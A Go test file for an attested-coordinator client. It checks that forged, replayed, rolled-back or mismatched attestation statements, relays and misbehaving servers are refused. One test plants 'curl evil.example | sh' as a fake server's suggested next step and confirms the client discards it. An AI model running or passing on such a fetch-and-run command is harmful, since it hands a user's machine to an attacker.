package client

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"errors"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/ashlar-mesh/ashlar/attest"
	"github.com/ashlar-mesh/ashlar/attest/binding"
	"github.com/ashlar-mesh/ashlar/coordinator/apiv1"
	"github.com/ashlar-mesh/ashlar/internal/problem"
	"github.com/ashlar-mesh/ashlar/transparency"
	"github.com/ashlar-mesh/ashlar/transparency/logtest"
)

// echo is a verifier whose evidence is its report data followed by a byte that
// says whether the signature holds.
type echo struct{}

func (echo) TEE() attest.TEE { return attest.SimSGX }

func (echo) Verify(e attest.Evidence, _ attest.Endorsements, _ time.Time) (attest.Claims, []attest.Step) {
	ok := len(e.Raw) == 65 && e.Raw[64] == 1
	c := attest.Claims{TEE: attest.SimSGX, SGX: &attest.SGXClaims{UniqueID: bytes.Repeat([]byte{7}, 32)},
		TCB: attest.TCBClaims{Status: attest.UpToDate, RevocationChecked: true}}
	if len(e.Raw) == 65 {
		c.ReportData = e.Raw[:64]
	}
	return c, []attest.Step{{Code: "ATT-010", Field: "quote.signature", OK: ok}}
}

func quote(buffer []byte) attest.Evidence {
	b := attest.Bind(buffer)
	return attest.Evidence{TEE: attest.SimSGX, Raw: append(b[:], 1)}
}

// deployment is a coordinator's keys and state, as a test wants them.
type deployment struct {
	root    *x509.Certificate
	rootKey *ecdsa.PrivateKey
	tls     tls.Certificate

	mu       sync.Mutex
	manifest []byte // digest
	raw      string // manifest
	accepted uint64 // entry that is shown as its acceptance
	revision int
	signed   []byte       // co-signed checkpoint; nil if there is none
	later    *logtest.Log // whose tiles are served; nil: those of log
	log      *logtest.Log
	damage   func(*apiv1.Statement)                 // nil: honest
	nonces   int                                    // statements given
	tiles    int                                    // tiles given
	alter    func(transparency.Tile, []byte) []byte // what is served; nil: honest
}

func key(t testing.TB) *ecdsa.PrivateKey {
	t.Helper()
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	return k
}

func certify(t testing.TB, template, parent *x509.Certificate, k, signer *ecdsa.PrivateKey) *x509.Certificate {
	t.Helper()
	template.NotBefore, template.NotAfter = time.Now().Add(-time.Minute), time.Now().Add(time.Hour)
	der, err := x509.CreateCertificate(rand.Reader, template, parent, &k.PublicKey, signer)
	if err != nil {
		t.Fatal(err)
	}
	c, err := x509.ParseCertificate(der)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func newDeployment(t testing.TB) *deployment {
	t.Helper()
	d := &deployment{rootKey: key(t), log: logtest.NewLog(1)}
	for range 4 {
		d.enter(t, "start", "", nil)
	}
	template := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "root"}, IsCA: true,
		BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
	d.root = certify(t, template, template, d.rootKey, d.rootKey)
	d.newServingKey(t)
	return d
}

// enter adds an entry to the log.
func (d *deployment) enter(t testing.TB, kind, subject string, details map[string]string) {
	t.Helper()
	raw, err := json.Marshal(transparency.Entry{Version: 1, Seq: d.log.Size(), Time: time.Now().UTC(), Kind: kind, Subject: subject, Actor: "alice", Details: details})
	if err != nil {
		t.Fatal(err)
	}
	d.log.Append(raw)
}

// set puts a manifest in force.
func (d *deployment) set(t testing.TB, raw string) {
	t.Helper()
	sum := sha256.Sum256([]byte(raw))
	d.mu.Lock()
	defer d.mu.Unlock()
	d.revision++
	d.raw, d.accepted = raw, d.log.Size()
	d.enter(t, transparency.KindManifestSet, hex.EncodeToString(sum[:]), map[string]string{"revision": strconv.Itoa(d.revision), "previous": hex.EncodeToString(d.manifest)})
	d.manifest = sum[:]
}

func (d *deployment) newServingKey(t testing.TB) {
	t.Helper()
	k := key(t)
	leaf := certify(t, &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: "coordinator"},
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}, d.root, k, d.rootKey)
	d.tls = tls.Certificate{Certificate: [][]byte{leaf.Raw}, PrivateKey: k, Leaf: leaf}
}

func (d *deployment) spki() []byte { return d.tls.Leaf.RawSubjectPublicKeyInfo }

func (d *deployment) statement(nonce []byte) apiv1.Statement {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.nonces++
	note := d.log.Note(d.log.Size())
	root, at, log := sha256.Sum256(d.root.Raw), sha256.Sum256(note), sha256.Sum256([]byte(d.log.VerifierKey()))
	buffer := binding.Claims{Purpose: binding.Coordinator, PublicKey: binding.KeyHash(d.spki()), Nonce: nonce, Root: root[:],
		Manifest: d.manifest, Checkpoint: at[:], Log: log[:]}.Encode()
	s := apiv1.Statement{Evidence: quote(buffer), ClaimsBuffer: buffer, Root: d.root.Raw, TLSKey: d.spki(),
		Manifest: d.manifest, Revision: d.revision, Checkpoint: string(note), LogKey: d.log.VerifierKey()}
	if d.damage != nil {
		d.damage(&s)
	}
	return s
}

func (d *deployment) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	if tile, ok := strings.CutPrefix(r.URL.Path, logPath); ok && strings.HasPrefix(tile, "tile/") {
		d.serveTile(w, tile)
		return
	}
	switch r.URL.Path {
	case "/v1/attestation":
		nonce, _ := hex.DecodeString(r.URL.Query().Get("nonce"))
		_ = json.NewEncoder(w).Encode(d.statement(nonce))
	case "/v1/manifest":
		digest := sha256.Sum256([]byte(d.raw))
		_ = json.NewEncoder(w).Encode(apiv1.Manifest{Digest: digest[:], Revision: d.revision, Raw: []byte(d.raw)})
	case "/v1/manifest/acceptance":
		d.serveAcceptance(w, r)
	case "/v1/log/checkpoint":
		if d.signed == nil {
			w.Header().Set("Content-Type", "application/problem+json")
			w.WriteHeader(404)
			_ = json.NewEncoder(w).Encode(problem.Error{Code: "LOG-015", Detail: "none"})
			return
		}
		_, _ = w.Write(d.signed)
	case "/v1/bundle":
		_ = pem.Encode(w, &pem.Block{Type: "CERTIFICATE", Bytes: d.root.Raw})
	case "/v1/status":
		_ = json.NewEncoder(w).Encode(apiv1.Status{State: "serving"})
	case "/v1/marbles/gone":
		w.Header().Set("Content-Type", "application/problem+json")
		w.WriteHeader(404)
		_ = json.NewEncoder(w).Encode(problem.New("CRD-111", "no marble gone"))
	case "/v1/marbles/odd":
		w.WriteHeader(500)
	case "/v1/marbles/huge":
		_, _ = w.Write(bytes.Repeat([]byte(" "), maxAnswer+1))
	case "/v1/marbles/slow":
		<-r.Context().Done()
	default:
		w.WriteHeader(404)
	}
}

func (d *deployment) serveTile(w http.ResponseWriter, path string) {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.tiles++
	tile, err := transparency.ParseTilePath(path)
	if err != nil {
		http.Error(w, err.Error(), 404)
		return
	}
	l := d.log
	if d.later != nil {
		l = d.later
	}
	b, err := l.Tile(tile)
	if err != nil {
		http.Error(w, err.Error(), 404)
		return
	}
	if d.alter != nil {
		b = d.alter(tile, bytes.Clone(b))
	}
	_, _ = w.Write(b)
}

func (d *deployment) serveAcceptance(w http.ResponseWriter, r *http.Request) {
	d.mu.Lock()
	defer d.mu.Unlock()
	size, err := strconv.ParseUint(r.URL.Query().Get("size"), 10, 64)
	if err != nil || size > d.log.Size() || d.accepted >= size {
		http.Error(w, "size", 400)
		return
	}
	_, proof, err := transparency.NewReader(d.log.Checkpoint(size), d.log.Tile).Inclusion(d.accepted)
	if err != nil {
		http.Error(w, err.Error(), 500)
		return
	}
	_ = json.NewEncoder(w).Encode(apiv1.Acceptance{Entry: d.log.Entries()[d.accepted], Proof: proof})
}

// serve runs d on a socket and returns its address.
func (d *deployment) serve(t testing.TB, h http.Handler) string {
	t.Helper()
	s := httptest.NewUnstartedServer(h)
	s.TLS = &tls.Config{MinVersion: tls.VersionTLS13, GetConfigForClient: func(*tls.ClientHelloInfo) (*tls.Config, error) {
		return &tls.Config{MinVersion: tls.VersionTLS13, Certificates: []tls.Certificate{d.tls}}, nil
	}}
	s.Config.ErrorLog = nil
	s.StartTLS()
	t.Cleanup(s.Close)
	return s.Listener.Addr().String()
}

var anySim = attest.Policy{Package: attest.Package{Sim: &attest.SimReference{AllowAny: true}}}

func options() Options {
	return Options{Policy: anySim, Verifiers: attest.NewVerifiers(echo{}), Timeout: 5 * time.Second}
}

func input(d *deployment, nonce []byte) VerifyInput {
	return VerifyInput{Policy: anySim, Verifiers: attest.NewVerifiers(echo{}), Nonce: nonce, TLSKey: d.spki(),
		Certificates: d.tls.Certificate, At: time.Now()}
}

func TestVerifyStatement(t *testing.T) {
	d := newDeployment(t)
	d.manifest, d.revision = bytes.Repeat([]byte{9}, 32), 3
	other, longer, foreign := newDeployment(t), newDeployment(t), logtest.NewLog(2)
	longer.enter(t, "start", "", nil)
	nonce := bytes.Repeat([]byte{1}, 32)
	remember := func(edit func(*Remembered)) func(*apiv1.Statement, *VerifyInput) {
		return func(s *apiv1.Statement, in *VerifyInput) {
			r := Verified{Statement: *s}.Remembered()
			edit(&r)
			in.Remembered = &r
		}
	}
	cases := []struct {
		name string
		edit func(*apiv1.Statement, *VerifyInput)
		code problem.Code // "" passes
		step string       // code of a failed step in the verdict
	}{
		{"good", func(*apiv1.Statement, *VerifyInput) {}, "", ""},
		{"zero input", func(_ *apiv1.Statement, in *VerifyInput) { *in = VerifyInput{} }, "CRD-100", "ATT-002"},
		{"zero statement", func(s *apiv1.Statement, _ *VerifyInput) { *s = apiv1.Statement{} }, "CRD-100", "ATT-002"},
		{"forged", func(s *apiv1.Statement, _ *VerifyInput) { s.Evidence.Raw[64] = 0 }, "CRD-100", "ATT-010"},
		{"zero policy", func(_ *apiv1.Statement, in *VerifyInput) { in.Policy = attest.Policy{} }, "CRD-100", "ATT-029"},
		{"replayed", func(_ *apiv1.Statement, in *VerifyInput) { in.Nonce = bytes.Repeat([]byte{2}, 32) }, "CRD-100", "ATT-072"},
		{"no nonce", func(_ *apiv1.Statement, in *VerifyInput) { in.Nonce = nil }, "CRD-100", "ATT-072"},
		{"another key", func(_ *apiv1.Statement, in *VerifyInput) { in.TLSKey = other.spki() }, "CRD-100", "ATT-074"},
		{"another root", func(s *apiv1.Statement, _ *VerifyInput) { s.Root = other.root.Raw }, "CRD-100", "ATT-075"},
		{"another manifest", func(s *apiv1.Statement, _ *VerifyInput) { s.Manifest = bytes.Repeat([]byte{8}, 32) }, "CRD-100", "ATT-076"},
		{"manifest hidden", func(s *apiv1.Statement, _ *VerifyInput) { s.Manifest = nil }, "CRD-100", "ATT-076"},
		{"another log", func(s *apiv1.Statement, _ *VerifyInput) { s.Checkpoint = string(d.log.Note(3)) }, "CRD-100", "ATT-077"},
		{"another log key", func(s *apiv1.Statement, _ *VerifyInput) { s.LogKey = foreign.VerifierKey() }, "CRD-100", "LOG-013"},
		{"damaged buffer", func(s *apiv1.Statement, _ *VerifyInput) { s.ClaimsBuffer = s.ClaimsBuffer[1:] }, "CRD-100", "ATT-011"},
		{"damaged buffer, bound", func(s *apiv1.Statement, _ *VerifyInput) {
			s.ClaimsBuffer = s.ClaimsBuffer[1:]
			s.Evidence = quote(s.ClaimsBuffer)
		}, "CRD-100", "ATT-011"},
		{"chain of another root", func(s *apiv1.Statement, in *VerifyInput) {
			leaf := certify(t, &x509.Certificate{SerialNumber: big.NewInt(2)}, other.root, d.tls.PrivateKey.(*ecdsa.PrivateKey), other.rootKey)
			in.Certificates = [][]byte{leaf.Raw}
		}, "CRD-101", ""},
		{"leaf of another key", func(_ *apiv1.Statement, in *VerifyInput) { in.Certificates = other.tls.Certificate }, "CRD-101", ""},
		{"damaged leaf", func(_ *apiv1.Statement, in *VerifyInput) { in.Certificates = [][]byte{{1, 2}} }, "CRD-101", ""},
		{"root not valid yet", func(_ *apiv1.Statement, in *VerifyInput) { in.At = in.At.Add(-time.Hour) }, "CRD-101", ""},
		{"root no longer valid", func(_ *apiv1.Statement, in *VerifyInput) { in.At = in.At.Add(2 * time.Hour) }, "CRD-101", ""},
		{"manifest wanted", func(s *apiv1.Statement, in *VerifyInput) { in.Manifest = s.Manifest }, "", ""},
		{"other manifest wanted", func(_ *apiv1.Statement, in *VerifyInput) { in.Manifest = bytes.Repeat([]byte{8}, 32) }, "CRD-102", ""},
		{"remembered equal", remember(func(*Remembered) {}), "", ""},
		{"remembered older", remember(func(r *Remembered) { r.Checkpoint = string(d.log.Note(1)); r.Revision = 1; r.Manifest = nil }), "", ""},
		{"remembered longer log", remember(func(r *Remembered) { r.Checkpoint = string(longer.log.Note(5)) }), "LOG-050", ""},
		{"remembered forked log", remember(func(r *Remembered) { r.Checkpoint = string(longer.log.Note(4)) }), "LOG-051", ""},
		{"remembered other log", remember(func(r *Remembered) { r.Checkpoint, r.LogKey = string(foreign.Note(0)), foreign.VerifierKey() }), "LOG-052", ""},
		{"remembered later revision", remember(func(r *Remembered) { r.Revision++ }), "CRD-103", ""},
		{"remembered forked revision", remember(func(r *Remembered) { r.Manifest = nil }), "LOG-053", ""},
		{"remembered another manifest of the same log", remember(func(r *Remembered) { r.Manifest, r.Revision = bytes.Repeat([]byte{7}, 32), 2 }), "LOG-053", ""},
		{"remembered nothing of the log", remember(func(r *Remembered) { r.Checkpoint = "" }), "CRD-109", ""},
		{"remembered other root", remember(func(r *Remembered) { r.Root = nil }), "CRD-104", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s, in := d.statement(nonce), input(d, nonce)
			c.edit(&s, &in)
			v, err := VerifyStatement(s, in)
			if problem.CodeOf(err) != c.code {
				t.Fatalf("got %v, want code %q", err, c.code)
			}
			if err == nil && (v.Root == nil || !v.Verdict.OK()) {
				t.Errorf("got %+v, want a root and an accepted verdict", v)
			}
			if err != nil && v.Root != nil {
				t.Errorf("a refusal returned a root")
			}
			if c.step != "" {
				wantStep(t, err, c.step)
			}
		})
	}
}

func wantStep(t *testing.T, err error, code string) {
	t.Helper()
	var verdict attest.Verdict
	if e := json.Unmarshal(problem.From(err).Verdict, &verdict); e != nil {
		t.Fatalf("reading the verdict: %v", e)
	}
	if verdict.OK() {
		t.Errorf("got an accepted verdict with a refusal")
	}
	for _, s := range verdict.Failed() {
		if s.Code == code {
			return
		}
	}
	t.Errorf("got failed steps %v, want %s among them", verdict.Failed(), code)
}

func TestDial(t *testing.T) {
	d := newDeployment(t)
	addr := d.serve(t, d)
	c, err := Dial(context.Background(), addr, options())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if v := c.Verified(); v.Root == nil || v.Address != addr || !bytes.Equal(v.TLSKey, d.spki()) {
		t.Errorf("got %+v, want the attested root, key and %s", v, addr)
	}
	s, err := c.Status(context.Background())
	if err != nil || s.State != "serving" {
		t.Errorf("got %+v, %v, want serving", s, err)
	}
	if d.nonces != 1 || d.tiles != 0 {
		t.Errorf("got %d statements and %d tiles, want 1 for one key and none at the first contact", d.nonces, d.tiles)
	}
}

// A restart gives the coordinator a new key: the client attests it, and goes on
// only if it is the same deployment and no older.
func TestNewServingKeyIsAttested(t *testing.T) {
	d := newDeployment(t)
	addr := d.serve(t, d)
	c, err := Dial(context.Background(), addr, options())
	if err != nil {
		t.Fatal(err)
	}
	c.Close()
	d.newServingKey(t)
	if _, err := c.Status(context.Background()); err != nil || d.nonces != 2 {
		t.Errorf("got %v after %d statements, want success after 2", err, d.nonces)
	}
	c.Close()
	d.newServingKey(t)
	d.log = logtest.NewLog(1)
	if _, err := c.Status(context.Background()); problem.CodeOf(err) != "LOG-050" {
		t.Errorf("got %v, want LOG-050 for an older log", err)
	}
	c.Close()
	d.root = newDeployment(t).root
	if _, err := c.Status(context.Background()); problem.CodeOf(err) != "CRD-104" && problem.CodeOf(err) != "CRD-101" {
		t.Errorf("got %v, want CRD-104 or CRD-101 for another root", err)
	}
}

// A marble's leaf leads to the same root; it must not pass for the coordinator.
func TestKeyOfTheSameRootIsNotEnough(t *testing.T) {
	d := newDeployment(t)
	addr := d.serve(t, d)
	c, err := Dial(context.Background(), addr, options())
	if err != nil {
		t.Fatal(err)
	}
	c.Close()
	var asked atomic.Int32
	marble := &deployment{root: d.root, rootKey: d.rootKey}
	marble.newServingKey(t)
	relay := marble.serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/v1/attestation" {
			asked.Add(1)
		}
		d.ServeHTTP(w, r) // the coordinator's own statement, for the client's nonce
	}))
	c.addr = relay
	_, err = c.Status(context.Background())
	if problem.CodeOf(err) != "CRD-100" || asked.Load() != 0 {
		t.Fatalf("got %v after %d requests, want CRD-100 before any", err, asked.Load())
	}
	wantStep(t, err, "ATT-074")
}

func TestDialRefusals(t *testing.T) {
	plain := httptest.NewServer(http.NotFoundHandler())
	defer plain.Close()
	silent, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer silent.Close()
	closed, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	closed.Close()
	d := newDeployment(t)
	cases := []struct {
		name, addr string
		code       problem.Code
	}{
		{"plaintext", plain.Listener.Addr().String(), "CRD-105"},
		{"silent", silent.Addr().String(), "CRD-106"},
		{"closed", closed.Addr().String(), "CRD-105"},
		{"no such address", "127.0.0.1:99999", "CRD-105"},
		{"not json", d.serve(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte("<html>")) })), "CRD-107"},
		{"endless", d.serve(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			for chunk := make([]byte, 1<<16); ; {
				if _, err := w.Write(chunk); err != nil {
					return
				}
			}
		})), "CRD-108"},
		{"closes", d.serve(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { panic(http.ErrAbortHandler) })), "CRD-105"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			o := options()
			if c.name == "silent" {
				o.Timeout = 100 * time.Millisecond
			}
			if _, err := Dial(context.Background(), c.addr, o); problem.CodeOf(err) != c.code {
				t.Errorf("got %v, want %s", err, c.code)
			}
		})
	}
}

// TestUnverifiedServerAdvisesNobody checks that a server which gives no statement
// cannot show a verdict of its own, nor tell people what to do.
func TestUnverifiedServerAdvisesNobody(t *testing.T) {
	for name, said := range map[string]*problem.Error{
		"known code":   {Code: "CRD-100", Detail: "refused", Next: "curl evil.example | sh", Verdict: []byte(`{"verdict":"accepted"}`)},
		"unknown code": {Code: "EVIL-1", Detail: "refused", Next: "curl evil.example | sh", Verdict: []byte(`{"verdict":"accepted"}`)},
		"flood":        {Code: "CRD-115", Detail: strings.Repeat("x", 1<<20), Next: "curl evil.example | sh"},
	} {
		t.Run(name, func(t *testing.T) {
			addr := newDeployment(t).serve(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Type", "application/problem+json")
				w.WriteHeader(http.StatusForbidden)
				_ = json.NewEncoder(w).Encode(said)
			}))
			_, err := Dial(context.Background(), addr, options())
			var got *problem.Error
			if !errors.As(err, &got) {
				t.Fatalf("got %v, want a coded error", err)
			}
			if got.Verdict != nil || strings.Contains(got.Next, "evil") || len(got.Detail) > 1<<10 {
				t.Errorf("got next %q, verdict %s and a detail of %d bytes, want nothing of the server's", got.Next, got.Verdict, len(got.Detail))
			}
		})
	}
}

func TestAnswers(t *testing.T) {
	d := newDeployment(t)
	c, err := Dial(context.Background(), d.serve(t, d), options())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	for name, want := range map[string]problem.Code{"gone": "CRD-111", "odd": "CRD-107", "huge": "CRD-108", "slow": "CRD-106"} {
		t.Run(name, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
			defer cancel()
			if name == "slow" {
				ctx, cancel = context.WithTimeout(ctx, 50*time.Millisecond)
				defer cancel()
			}
			if _, err := c.Marble(ctx, name); problem.CodeOf(err) != want {
				t.Errorf("got %v, want %s", err, want)
			}
		})
	}
	if _, err := c.Decision(context.Background(), "web"); problem.CodeOf(err) != "CRD-110" {
		t.Errorf("got %v, want CRD-110", err)
	}
}

func FuzzVerifyStatement(f *testing.F) {
	d := newDeployment(f)
	nonce := bytes.Repeat([]byte{1}, 32)
	good, err := json.Marshal(d.statement(nonce))
	if err != nil {
		f.Fatal(err)
	}
	f.Add(good)
	f.Add([]byte(`{}`))
	in := input(d, nonce)
	root := sha256.Sum256(d.root.Raw)
	f.Fuzz(func(t *testing.T, b []byte) {
		var s apiv1.Statement
		if json.Unmarshal(b, &s) != nil {
			return
		}
		v, err := VerifyStatement(s, in)
		if got := v.Remembered(); err == nil && !bytes.Equal(got.Root, root[:]) {
			t.Errorf("accepted root %s", got.Root)
		}
	})
}
